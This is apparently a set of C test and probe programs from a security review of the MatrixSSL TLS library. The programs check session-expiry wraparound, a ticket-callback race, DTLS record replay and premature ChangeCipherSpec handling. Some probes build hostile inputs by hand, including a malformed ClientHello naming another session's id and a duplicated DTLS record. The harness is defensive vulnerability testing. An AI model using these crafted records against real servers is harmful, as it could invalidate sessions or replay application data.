#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

static sslKeys_t *g_svrKeys, *g_clnKeys;
static int g_alertSeen; /* an alert was delivered to one of the peers */

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* authentication is not what this demo is about */
}

static void die(const char *what)
{
    printf("HARNESS FAILURE: %s\n", what);
    exit(2);
}

/* Give 'len' bytes to 'to'.  Returns <0 on error. */
static int feed(ssl_t *to, const unsigned char *data, int32 len, int *toDone)
{
    unsigned char *rb, *pt;
    uint32 ptLen;
    int32 n, m, rc, off = 0;

    while (off < len)
    {
        n = matrixSslGetReadbuf(to, &rb);
        if (n <= 0)
        {
            return -1;
        }
        m = (len - off < n) ? len - off : n;
        memcpy(rb, data + off, m);
        off += m;
        rc = matrixSslReceivedData(to, m, &pt, &ptLen);
        for (;; )
        {
            if (rc < 0)
            {
                return rc;
            }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                *toDone = 1;
                break;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                g_alertSeen = 1;
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_APP_DATA)
            {
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            break; /* REQUEST_SEND, REQUEST_RECV, SUCCESS */
        }
    }
    return 0;
}

/* Move everything 'from' wants to send into 'to'.  Returns bytes moved or <0 */
static int xfer(ssl_t *from, ssl_t *to, int *fromDone, int *toDone)
{
    unsigned char *buf;
    int32 len, rc;
    int moved = 0;

    while ((len = matrixSslGetOutdata(from, &buf)) > 0)
    {
        if (to != NULL && feed(to, buf, len, toDone) < 0)
        {
            return -1;
        }
        rc = matrixSslSentData(from, len);
        if (rc < 0)
        {
            return -1;
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            *fromDone = 1;
        }
        moved += len;
    }
    return moved;
}

static ssl_t *newServer(void)
{
    sslSessOpts_t opts;
    ssl_t *s;

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&s, g_svrKeys, NULL, &opts) < 0)
    {
        die("matrixSslNewServerSession");
    }
    return s;
}

static ssl_t *newClient(sslSessionId_t *sid)
{
    sslSessOpts_t opts;
    ssl_t *c;
    int32 rc;

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2;
    rc = matrixSslNewClientSession(&c, g_clnKeys, sid, NULL, 0, certCb, NULL,
            NULL, NULL, &opts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        die("matrixSslNewClientSession");
    }
    return c;
}

/* Run a handshake to its end.  Returns 0 when both sides completed. */
static int handshake(ssl_t *c, ssl_t *s)
{
    int cDone = 0, sDone = 0, i, a, b;

    for (i = 0; i < 20; i++)
    {
        a = xfer(c, s, &cDone, &sDone);
        if (a < 0)
        {
            return -1;
        }
        b = xfer(s, c, &sDone, &cDone);
        if (b < 0)
        {
            return -1;
        }
        if (cDone && sDone)
        {
            return 0;
        }
        if (a == 0 && b == 0)
        {
            return -1;
        }
    }
    return -1;
}

static int tryResume(sslSessionId_t *sid, sslSessionId_t *saved)
{
    ssl_t *c, *s;
    int resumed;

    memcpy(sid, saved, sizeof(*saved));
    s = newServer();
    c = newClient(sid);
    if (handshake(c, s) < 0)
    {
        return 0;
    }
    resumed = matrixSslIsResumedSession(s);
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);
    return resumed;
}

int main(void)
{
    sslSessionId_t *sid, saved;
    ssl_t *c, *s;

    if (matrixSslOpen() < 0) die("matrixSslOpen");
    if (matrixSslNewKeys(&g_svrKeys, NULL) < 0 ||
        matrixSslNewKeys(&g_clnKeys, NULL) < 0) die("matrixSslNewKeys");
    if (matrixSslLoadRsaKeysMem(g_svrKeys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) < 0) die("server keys");
    if (matrixSslLoadRsaKeysMem(g_clnKeys, NULL, 0, NULL, 0,
            RSA2048CA, RSA2048CA_SIZE) < 0) die("client CA");
    if (matrixSslNewSessionId(&sid, NULL) < 0) die("matrixSslNewSessionId");

    s = newServer();
    c = newClient(sid);
    if (handshake(c, s) < 0) die("full handshake");
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);
    if (sid->idLen != SSL_MAX_SESSION_ID_SIZE) die("no session id");
    memcpy(&saved, sid, sizeof(saved));

    g_advanceSecs = 3600;
    printf("+1 hour : %s\n", tryResume(sid, &saved) ? "resumed" : "not resumed");
    g_advanceSecs = 25 * 3600;
    if (tryResume(sid, &saved))
    {
        printf("+25 hours: resumed - plain expiry does not work?!\n");
        return 1;
    }
    printf("+25 hours: not resumed (expired, as it should be)\n");
    g_advanceSecs = 30LL * 86400;
    if (tryResume(sid, &saved))
    {
        printf("+30 days: resumed\n");
        return 1;
    }
    printf("+30 days : not resumed (negative 32-bit age is caught)\n");
    g_advanceSecs = 4294968LL + 3600; /* 2^32 ms + 1 hour */
    if (tryResume(sid, &saved))
    {
        printf("+49.7 days + 1 hour: RESUMED\n"
            "OBSERVATION: a session that expired 48.7 days ago is resumed "
            "(32-bit millisecond age wrapped)\n");
        return 1;
    }
    printf("+49.7 days + 1 hour: not resumed\nOK\n");
    return 0;
}
