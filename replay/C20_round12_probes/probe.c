/*
    Side-observation probes for C20 on the UNMODIFIED library (they behave the
    same with the seeded change, which touches none of this code).

      probe ticketcb   two sessions resume concurrently with tickets whose keys
                       the server has to fetch through the ticket callback
      probe sid        a throw-away connection names a live session's id in a
                       malformed ClientHello
      probe crl        psCRL_RemoveAll() on an empty CRL cache

    Each probe prints what it saw; exit 1 = the questionable behaviour was
    observed, exit 0 = not observed.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>
#include <time.h>
#include <pthread.h>
#include <sys/types.h>
#include <sys/wait.h>

#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

static const psCipher16_t g_suite[1] = { TLS_RSA_WITH_AES_128_CBC_SHA };

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    return 0;
}

static int pump(ssl_t *from, ssl_t *to, int *fromDone, int *toDone, int *moved)
{
    unsigned char *out, *in;
    int32 outLen, inLen, rc;
    uint32 l;

    while ((outLen = matrixSslGetOutdata(from, &out)) > 0)
    {
        *moved = 1;
        inLen = matrixSslGetReadbuf(to, &in);
        if (inLen <= 0)
        {
            return -1;
        }
        if (inLen > outLen)
        {
            inLen = outLen;
        }
        memcpy(in, out, inLen);
        rc = matrixSslSentData(from, inLen);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            *fromDone = 1;
        }
        else if (rc < 0 || rc == MATRIXSSL_REQUEST_CLOSE)
        {
            return -2;
        }
        rc = matrixSslReceivedData(to, inLen, &in, &l);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            *toDone = 1;
        }
        else if (rc == MATRIXSSL_RECEIVED_ALERT)
        {
            return -3;
        }
        else if (rc < 0)
        {
            return -4;
        }
    }
    return 0;
}

static int handshake(ssl_t *c, ssl_t *s)
{
    int cDone = 0, sDone = 0, moved, rc = 0, rounds = 0;

    while (!(cDone && sDone) && rounds++ < 20)
    {
        moved = 0;
        if ((rc = pump(c, s, &cDone, &sDone, &moved)) < 0)
        {
            return rc;
        }
        if ((rc = pump(s, c, &sDone, &cDone, &moved)) < 0)
        {
            return rc;
        }
        if (!moved)
        {
            break;
        }
    }
    return (cDone && sDone) ? 0 : -9;
}

static sslKeys_t *newServerKeys(void)
{
    sslKeys_t *k;

    if (matrixSslNewKeys(&k, NULL) < 0 ||
        matrixSslLoadRsaKeysMem(k, RSA2048, sizeof(RSA2048),
            RSA2048KEY, sizeof(RSA2048KEY), NULL, 0) < 0)
    {
        printf("cannot load server keys\n");
        exit(2);
    }
    return k;
}

static sslKeys_t *newClientKeys(void)
{
    sslKeys_t *k;

    if (matrixSslNewKeys(&k, NULL) < 0 ||
        matrixSslLoadRsaKeysMem(k, NULL, 0, NULL, 0,
            RSA2048CA, sizeof(RSA2048CA)) < 0)
    {
        printf("cannot load client keys\n");
        exit(2);
    }
    return k;
}

/* One TLS 1.2 connection; returns <0 if the handshake failed, else 1 if the
   server resumed the session, 0 if it was a full handshake.  The sessions are
   returned open when cOut/sOut are given. */
static int connectOnce(sslKeys_t *cliKeys, sslKeys_t *srvKeys,
    sslSessionId_t *sid, int tickets, ssl_t **cOut, ssl_t **sOut)
{
    sslSessOpts_t copt, sopt;
    ssl_t *c = NULL, *s = NULL;
    int rc;

    memset(&copt, 0, sizeof(copt));
    memset(&sopt, 0, sizeof(sopt));
    copt.versionFlag = SSL_FLAGS_TLS_1_2;
    sopt.versionFlag = SSL_FLAGS_TLS_1_2;
    copt.ticketResumption = tickets;
    if (matrixSslNewClientSession(&c, cliKeys, sid, g_suite, 1, certCb, NULL,
            NULL, NULL, &copt) != MATRIXSSL_REQUEST_SEND)
    {
        return -100;
    }
    if (matrixSslNewServerSession(&s, srvKeys, NULL, &sopt) < 0)
    {
        matrixSslDeleteSession(c);
        return -101;
    }
    rc = handshake(c, s);
    if (rc == 0)
    {
        rc = (s->flags & SSL_FLAGS_RESUMED) ? 1 : 0;
    }
    if (cOut && sOut && rc >= 0)
    {
        *cOut = c;
        *sOut = s;
    }
    else
    {
        matrixSslDeleteSession(c);
        matrixSslDeleteSession(s);
    }
    return rc;
}

/******************************************************************************/
/* probe ticketcb */

static unsigned char nameX[16] = "ticket-key-XXXX";
static unsigned char nameY[16] = "ticket-key-YYYY";
static unsigned char nameZ[16] = "ticket-key-ZZZZ";
static unsigned char symX[32], symY[32], symZ[32], macX[32], macY[32], macZ[32];

static pthread_mutex_t g_m = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t g_cv = PTHREAD_COND_INITIALIZER;
static int g_loaded, g_rendezvous;

/* The application's key store: fetch the named key on demand */
static int32 ticketCb(void *keys, unsigned char name[16], short found)
{
    struct timespec ts;
    int32 rc;

    if (found)
    {
        return 0;
    }
    if (memcmp(name, nameX, 16) == 0)
    {
        rc = matrixSslLoadSessionTicketKeys((sslKeys_t *) keys, nameX, symX, 32,
                macX, 32);
    }
    else if (memcmp(name, nameY, 16) == 0)
    {
        rc = matrixSslLoadSessionTicketKeys((sslKeys_t *) keys, nameY, symY, 32,
                macY, 32);
    }
    else
    {
        return -1;
    }
    if (rc < 0)
    {
        return -1;
    }
    if (g_rendezvous)
    {
        /* the schedule under test: both callbacks have loaded their key
           before either of them returns into the library */
        pthread_mutex_lock(&g_m);
        g_loaded++;
        pthread_cond_broadcast(&g_cv);
        clock_gettime(CLOCK_REALTIME, &ts);
        ts.tv_sec += 3;
        while (g_loaded < 2)
        {
            if (pthread_cond_timedwait(&g_cv, &g_m, &ts) != 0)
            {
                break;
            }
        }
        pthread_mutex_unlock(&g_m);
    }
    return 0;
}

struct resumeArg
{
    sslKeys_t *cliKeys, *srvKeys;
    sslSessionId_t *sid;
    int result;
};

static void *resumeThread(void *p)
{
    struct resumeArg *a = p;

    a->result = connectOnce(a->cliKeys, a->srvKeys, a->sid, 1, NULL, NULL);
    return NULL;
}

/* returns number of resumed sessions out of 2, or <0 */
static int ticketRun(int concurrent)
{
    sslKeys_t *srv = newServerKeys(), *cli = newClientKeys();
    sslSessionId_t *sidA, *sidB;
    struct resumeArg a, b;
    pthread_t ta, tb;
    int n;

    matrixSslNewSessionId(&sidA, NULL);
    matrixSslNewSessionId(&sidB, NULL);
    /* ticket for A under key X */
    matrixSslLoadSessionTicketKeys(srv, nameX, symX, 32, macX, 32);
    if (connectOnce(cli, srv, sidA, 1, NULL, NULL) != 0)
    {
        printf("setup: handshake A failed\n");
        return -1;
    }
    /* rotate to Y, ticket for B under key Y */
    matrixSslLoadSessionTicketKeys(srv, nameY, symY, 32, macY, 32);
    matrixSslDeleteSessionTicketKey(srv, nameX);
    if (connectOnce(cli, srv, sidB, 1, NULL, NULL) != 0)
    {
        printf("setup: handshake B failed\n");
        return -1;
    }
    /* rotate to Z: X and Y are now only in the application's key store */
    matrixSslLoadSessionTicketKeys(srv, nameZ, symZ, 32, macZ, 32);
    matrixSslDeleteSessionTicketKey(srv, nameY);
    matrixSslSetSessionTicketCallback(srv, ticketCb);

    a.cliKeys = b.cliKeys = cli;
    a.srvKeys = b.srvKeys = srv;
    a.sid = sidA;
    b.sid = sidB;
    g_loaded = 0;
    g_rendezvous = concurrent;
    if (concurrent)
    {
        pthread_create(&ta, NULL, resumeThread, &a);
        pthread_create(&tb, NULL, resumeThread, &b);
        pthread_join(ta, NULL);
        pthread_join(tb, NULL);
    }
    else
    {
        resumeThread(&a);
        resumeThread(&b);
    }
    printf("  %s: session A (ticket under key X): %s, session B (ticket under "
        "key Y): %s\n", concurrent ? "concurrent" : "sequential",
        a.result == 1 ? "resumed" : a.result == 0 ? "NOT resumed (full handshake)" : "failed",
        b.result == 1 ? "resumed" : b.result == 0 ? "NOT resumed (full handshake)" : "failed");
    n = (a.result == 1) + (b.result == 1);
    matrixSslDeleteSessionId(sidA);
    matrixSslDeleteSessionId(sidB);
    matrixSslDeleteKeys(srv);
    matrixSslDeleteKeys(cli);
    return n;
}

static int probeTicketCb(void)
{
    int seq, conc;

    memset(symX, 1, 32); memset(symY, 2, 32); memset(symZ, 3, 32);
    memset(macX, 4, 32); memset(macY, 5, 32); memset(macZ, 6, 32);
    seq = ticketRun(0);
    conc = ticketRun(1);
    if (seq < 0 || conc < 0)
    {
        return 2;
    }
    if (seq == 2 && conc < 2)
    {
        printf("OBSERVED: both tickets are accepted when the sessions run one "
            "after the other, but when the two ticket callbacks overlap only %d of 2 "
            "is: getTicketKeys expects the key it asked for at the tail of "
            "the list after the callback, and the other session's key is "
            "there\n", conc);
        return 1;
    }
    printf("not observed (sequential %d, concurrent %d resumed)\n", seq, conc);
    return 0;
}

/******************************************************************************/
/* probe sid */

static int sendMalformedHello(sslKeys_t *srvKeys, const unsigned char *id)
{
    sslSessOpts_t sopt;
    ssl_t *s;
    unsigned char rec[5 + 4 + 2 + 32 + 1 + 32 + 2], *p = rec, *in;
    int32 inLen, rc;
    uint32 l;
    int bodyLen = 2 + 32 + 1 + 32 + 2;

    memset(&sopt, 0, sizeof(sopt));
    sopt.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&s, srvKeys, NULL, &sopt) < 0)
    {
        return -1;
    }
    *p++ = 0x16; *p++ = 3; *p++ = 3;
    *p++ = 0; *p++ = (unsigned char) (4 + bodyLen);
    *p++ = 1; *p++ = 0; *p++ = 0; *p++ = (unsigned char) bodyLen;
    *p++ = 3; *p++ = 3;
    memset(p, 0x5a, 32); p += 32;       /* client random */
    *p++ = 32;                          /* session id of somebody else */
    memcpy(p, id, 32); p += 32;
    *p++ = 0; *p++ = 0;                 /* cipher suite list of length 0 */
    inLen = matrixSslGetReadbuf(s, &in);
    if (inLen < (int32) sizeof(rec))
    {
        matrixSslDeleteSession(s);
        return -1;
    }
    memcpy(in, rec, sizeof(rec));
    rc = matrixSslReceivedData(s, sizeof(rec), &in, &l);
    printf("  malformed ClientHello naming the session id: server returned %d "
        "(%s)\n", rc, rc == MATRIXSSL_REQUEST_SEND ? "alert to send" : "?");
    matrixSslDeleteSession(s);
    return 0;
}

static int probeSid(void)
{
    sslKeys_t *srv = newServerKeys(), *cli = newClientKeys();
    sslSessionId_t *sid, copy;
    ssl_t *c1, *s1;
    int before, after;

    matrixSslNewSessionId(&sid, NULL);
    if (connectOnce(cli, srv, sid, 0, &c1, &s1) != 0)
    {
        printf("setup handshake failed\n");
        return 2;
    }
    /* connection 1 stays open and holds its session cache entry */
    memcpy(&copy, sid, sizeof(copy));
    before = connectOnce(cli, srv, &copy, 0, NULL, NULL);
    printf("  second connection resuming the live session: %s\n",
        before == 1 ? "resumed" : "not resumed");
    sendMalformedHello(srv, sid->id);
    memcpy(&copy, sid, sizeof(copy));
    after = connectOnce(cli, srv, &copy, 0, NULL, NULL);
    printf("  third connection resuming the live session: %s\n",
        after == 1 ? "resumed" : after == 0 ? "NOT resumed (full handshake)" : "failed");
    matrixSslDeleteSession(c1);
    matrixSslDeleteSession(s1);
    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(srv);
    matrixSslDeleteKeys(cli);
    if (before == 1 && after != 1)
    {
        printf("OBSERVED: a connection that never resumed (or registered) the "
            "entry invalidated it and dropped one of its references "
            "(matrixClearSession(ssl, 1) on the alert path trusts "
            "ssl->sessionId, which parseClientHello has already overwritten "
            "with the client's bytes)\n");
        return 1;
    }
    printf("not observed\n");
    return 0;
}

/******************************************************************************/
/* probe crl */

static int probeCrl(void)
{
    pid_t pid = fork();
    int status;

    if (pid == 0)
    {
        psCRL_RemoveAll();      /* nothing was ever inserted */
        _exit(0);
    }
    waitpid(pid, &status, 0);
    if (WIFSIGNALED(status))
    {
        printf("OBSERVED: psCRL_RemoveAll() on an empty CRL cache died with "
            "signal %d (reads g_CRL->next with g_CRL == NULL)\n",
            WTERMSIG(status));
        return 1;
    }
    printf("not observed\n");
    return 0;
}

int main(int argc, char **argv)
{
    int rc;

    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc != 2)
    {
        printf("usage: probe ticketcb|sid|crl\n");
        return 2;
    }
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    if (strcmp(argv[1], "ticketcb") == 0)
    {
        rc = probeTicketCb();
    }
    else if (strcmp(argv[1], "sid") == 0)
    {
        rc = probeSid();
    }
    else if (strcmp(argv[1], "crl") == 0)
    {
        rc = probeCrl();
    }
    else
    {
        rc = 2;
    }
    matrixSslClose();
    return rc;
}
