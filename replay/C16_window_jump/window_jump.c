/* C16: "a replayed application record is never delivered to the application a second time".
   dtlsChkReplayWindow keeps the bitmap unchanged when a record is 32 or more sequence numbers ahead (RFC 4303 / RFC 2401
   App. C set it to 1: bit 0 is the record just accepted).  With a fresh window (first record of a newer epoch) the bitmap
   is 0, so that record is not marked as seen and its replay is accepted once more.
   Schedule (attacker only drops and duplicates): handshake; the client's Finished flight is resent once (epoch 2, no key
   change) and lost; the client's first 33 application records of that epoch are lost; record #34 is delivered twice. */
#include "harness.h"
#include "matrixssl/matrixssllib.h"
static int d_pump(hPeer *from, hPeer *to)
{
    unsigned char *buf; int32 n, total = 0, rc; static unsigned char d[1 << 14];
    while ((n = matrixDtlsGetOutdata(from->ssl, &buf)) > 0)
    {
        memcpy(d, buf, n); total += n;
        rc = matrixDtlsSentData(from->ssl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) from->hsDone = 1;
        h_feed(to, d, n);
        if (rc == MATRIXSSL_REQUEST_CLOSE || rc < 0) { from->closed = 1; break; }
    }
    return total;
}
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char rec[2048]; unsigned char *buf; int32 n, i, recLen = 0, before;
    int32 ver = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2;
    if (h_new_server(&s, ver) < 0 || h_new_client(&c, ver, NULL, 0, h_certCbAllowAll) < 0) return 2;
    for (i = 0; i < 20 && !(c.hsDone && s.hsDone); i++) { d_pump(&c, &s); d_pump(&s, &c); }
    if (!c.hsDone || !s.hsDone) { printf("handshake failed\n"); return 2; }
    /* the client's retransmit timer fires once: CCS + Finished again, on epoch 2; the datagram is lost */
    n = matrixDtlsGetOutdata(c.ssl, &buf);
    printf("client resends its final flight: %d bytes, epoch of the last record %d (lost)\n", n, n > 13 ? buf[n - 1 - ((buf[n-2]) ? 0 : 0)] * 0 + c.ssl->epoch[1] : -1);
    if (n > 0) matrixDtlsSentData(c.ssl, n);
    for (i = 1; i <= 34; i++)
    {
        char msg[32]; snprintf(msg, sizeof(msg), "application message %02d", i);
        if (matrixSslEncodeToOutdata(c.ssl, (unsigned char *) msg, (uint32) strlen(msg)) < 0) return 2;
        n = matrixDtlsGetOutdata(c.ssl, &buf);
        if (i == 34) { memcpy(rec, buf, n); recLen = n; }
        matrixDtlsSentData(c.ssl, n);
    }
    printf("record #34: %d bytes, epoch %d sequence number %d; records #1..#33 and the resent flight are lost\n", recLen, rec[4], rec[10]);
    before = s.appLen; h_feed(&s, rec, recLen);
    printf("first delivery:  server application got %d bytes\n", s.appLen - before);
    before = s.appLen; h_feed(&s, rec, recLen);
    printf("replayed record: server application got %d bytes\n", s.appLen - before);
    printf("RESULT %s\n", s.appLen - before > 0 ? "VIOLATED (a replayed application record was delivered a second time)" : "ok (replay refused)");
    return s.appLen - before > 0;
}
