/*
 * probe1 - side observations with two honest MatrixSSL peers.
 *
 *  A. a ChangeCipherSpec record in front of the very first ClientHello
 *     (TLS 1.2 and TLS 1.3 negotiation) - is it refused?
 *  (B, the role reversal, is probed by probe4 C9-C11 with a scripted server)
 *
 * Exit status is always 0: this is a probe, it only reports.
 */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"

static const char *g_root;
static char g_path[4][512];

static const char *P(int i, const char *rel)
{
    snprintf(g_path[i], sizeof(g_path[i]), "%s/testkeys/%s", g_root, rel);
    return g_path[i];
}

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert;
    return alert;
}

/* Move everything pending in 'from' to 'to'. Returns the ReceivedData code
   of the last chunk, or 0 if nothing was pending. *alert is set to the
   description of a fatal alert that 'to' queued as answer (or received). */
static int32_t pump(ssl_t *from, ssl_t *to, int *complete)
{
    unsigned char *out, *in, *pt;
    uint32_t ptlen;
    int32_t n, room, rc = 0;

    while ((n = matrixSslGetOutdata(from, &out)) > 0)
    {
        room = matrixSslGetReadbufOfSize(to, n, &in);
        if (room < n)
        {
            return -1000;
        }
        memcpy(in, out, n);
        if (matrixSslSentData(from, n) == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            complete[0] = 1;
        }
        rc = matrixSslReceivedData(to, n, &pt, &ptlen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
        {
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                printf("    peer received alert level %d desc %d\n", pt[0], pt[1]);
                if (pt[0] == 2)
                {
                    return -2000 - pt[1];
                }
            }
            rc = matrixSslProcessedData(to, &pt, &ptlen);
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            complete[1] = 1;
        }
        if (rc < 0)
        {
            return rc;
        }
    }
    return rc;
}

/* Run until both sides are quiet. Returns 1 if both completed. */
static int run(ssl_t *cl, ssl_t *sv, int *cdone, int *sdone)
{
    int i, comp[2];
    int32_t rc;

    for (i = 0; i < 20; i++)
    {
        unsigned char *b;
        int quiet = 1;

        if (matrixSslGetOutdata(cl, &b) > 0)
        {
            quiet = 0;
            comp[0] = comp[1] = 0;
            rc = pump(cl, sv, comp);
            if (comp[0]) *cdone = 1;
            if (comp[1]) *sdone = 1;
            if (rc < 0)
            {
                printf("    server side rc %d\n", rc);
                /* let a queued alert travel back */
                comp[0] = comp[1] = 0;
                pump(sv, cl, comp);
                return 0;
            }
        }
        if (matrixSslGetOutdata(sv, &b) > 0)
        {
            quiet = 0;
            comp[0] = comp[1] = 0;
            rc = pump(sv, cl, comp);
            if (comp[0]) *sdone = 1;
            if (comp[1]) *cdone = 1;
            if (rc < 0)
            {
                printf("    client side rc %d\n", rc);
                comp[0] = comp[1] = 0;
                pump(cl, sv, comp);
                return 0;
            }
        }
        if (quiet)
        {
            break;
        }
    }
    return (*cdone && *sdone);
}

static int probeA(sslKeys_t *skeys, sslKeys_t *ckeys, psProtocolVersion_t ver,
        const char *name, int inject)
{
    ssl_t *cl = NULL, *sv = NULL;
    sslSessOpts_t so, co;
    sslSessionId_t *sid = NULL;
    psProtocolVersion_t v[1];
    unsigned char *in, *pt;
    uint32_t ptlen;
    int32_t rc;
    int cdone = 0, sdone = 0, ok;
    static const unsigned char ccs[6] = { 20, 3, 3, 0, 1, 1 };

    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    v[0] = ver;
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    /* server: TLS 1.3 and TLS 1.2 */
    {
        psProtocolVersion_t sv2[2] = { v_tls_1_3, v_tls_1_2 };
        matrixSslSessOptsSetServerTlsVersions(&so, sv2, 2);
    }
    matrixSslNewSessionId(&sid, NULL);
    if (matrixSslNewServerSession(&sv, skeys, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cl, ckeys, sid, NULL, 0, certCb, NULL,
            NULL, NULL, &co) < 0)
    {
        printf("  A(%s): session setup failed\n", name);
        return -1;
    }
    rc = 0;
    if (inject)
    {
    /* The premature ChangeCipherSpec, alone, before the ClientHello */
    matrixSslGetReadbufOfSize(sv, sizeof(ccs), &in);
    memcpy(in, ccs, sizeof(ccs));
    rc = matrixSslReceivedData(sv, sizeof(ccs), &pt, &ptlen);
    printf("  A(%s): ChangeCipherSpec before ClientHello -> server rc %d%s\n",
        name, rc, rc < 0 ? " (refused)" : " (accepted silently)");
    }
    else
    {
        printf("  A(%s): control run without the premature CCS\n", name);
    }
    ok = 0;
    if (rc >= 0)
    {
        ok = run(cl, sv, &cdone, &sdone);
        printf("  A(%s): handshake after the premature CCS %s "
            "(client done %d, server done %d)\n", name,
            ok ? "COMPLETED" : "did not complete", cdone, sdone);
    }
    matrixSslDeleteSession(cl);
    matrixSslDeleteSession(sv);
    matrixSslDeleteSessionId(sid);
    return ok;
}

static int probeB(sslKeys_t *skeys, sslKeys_t *ckeys)
{
    ssl_t *cl = NULL, *sv = NULL;
    sslSessOpts_t so, co;
    sslSessionId_t *sid = NULL;
    psProtocolVersion_t v[1];
    int cdone = 0, sdone = 0, ok;
    int32_t rc;

    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    v[0] = v_tls_1_2;
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    matrixSslNewSessionId(&sid, NULL);
    if (matrixSslNewServerSession(&sv, skeys, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cl, ckeys, sid, NULL, 0, certCb, NULL,
            NULL, NULL, &co) < 0)
    {
        printf("  B: session setup failed\n");
        return -1;
    }
    ok = run(cl, sv, &cdone, &sdone);
    printf("  B: ordinary TLS 1.2 handshake %s\n", ok ? "completed" : "FAILED");
    if (!ok)
    {
        return -1;
    }
    /* Turn the server object into something that emits a ClientHello under
       its (server) write keys: the peer of our client "renegotiates" with a
       ClientHello, i.e. sends the client a message only servers may get. */
    sv->flags &= ~SSL_FLAGS_SERVER;
    rc = matrixSslEncodeRehandshake(sv, NULL, NULL, SSL_OPTION_FULL_HANDSHAKE,
            NULL, 0);
    printf("  B: peer encoded a ClientHello towards the client: rc %d\n", rc);
    if (rc < 0)
    {
        return -1;
    }
    cdone = sdone = 0;
    ok = run(cl, sv, &cdone, &sdone);
    printf("  B: ClientHello sent to a client: second handshake %s "
        "(client-object done %d, peer done %d, client hsState %d, flags err %d)\n",
        ok ? "COMPLETED" : "did not complete", cdone, sdone,
        cl->hsState, (cl->flags & SSL_FLAGS_ERROR) ? 1 : 0);
    matrixSslDeleteSession(cl);
    matrixSslDeleteSession(sv);
    matrixSslDeleteSessionId(sid);
    return ok;
}

int main(int argc, char **argv)
{
    sslKeys_t *skeys = NULL, *ckeys = NULL;

    g_root = argc > 1 ? argv[1] : ".";
    if (matrixSslOpen() < 0)
    {
        return 0;
    }
    matrixSslNewKeys(&skeys, NULL);
    matrixSslNewKeys(&ckeys, NULL);
    if (matrixSslLoadKeys(skeys, P(0, "RSA/2048_RSA.pem"),
            P(1, "RSA/2048_RSA_KEY.pem"), NULL, P(2, "RSA/ALL_RSA_CAS.pem"),
            NULL) < 0 ||
        matrixSslLoadKeys(ckeys, P(0, "RSA/3072_RSA.pem"),
            P(1, "RSA/3072_RSA_KEY.pem"), NULL, P(2, "RSA/ALL_RSA_CAS.pem"),
            NULL) < 0)
    {
        printf("key load failed\n");
        return 0;
    }
    printf("probe1 (side observations, honest peers)\n");
    probeA(skeys, ckeys, v_tls_1_2, "TLS1.2", 0);
    probeA(skeys, ckeys, v_tls_1_2, "TLS1.2", 1);
    probeA(skeys, ckeys, v_tls_1_3, "TLS1.3", 0);
    probeA(skeys, ckeys, v_tls_1_3, "TLS1.3", 1);
    (void) probeB;   /* superseded by probe4 C9-C11 (scripted server) */
    matrixSslDeleteKeys(skeys);
    matrixSslDeleteKeys(ckeys);
    matrixSslClose();
    return 0;
}
