/*
 * probe2 - side observations with a scripted TLS 1.2 client against an
 * in-memory MatrixSSL server. Reports only; exit status is always 0.
 */
#include "tinyclient.h"

static const char *g_root;
static char g_path[4][512];
static sslKeys_t *g_skeys;
static psX509Cert_t *g_svCert;
static int g_verbose;

static const char *P(int i, const char *rel)
{
    snprintf(g_path[i], sizeof(g_path[i]), "%s/testkeys/%s", g_root, rel);
    return g_path[i];
}

static ssl_t *newServer(void)
{
    ssl_t *sv = NULL;
    sslSessOpts_t so;
    psProtocolVersion_t v[1] = { v_tls_1_2 };

    memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    if (matrixSslNewServerSession(&sv, g_skeys, NULL, &so) < 0)
    {
        printf("server session failed\n");
        exit(0);
    }
    return sv;
}

static void verdict(const char *name, tc_t *tc, int expectComplete)
{
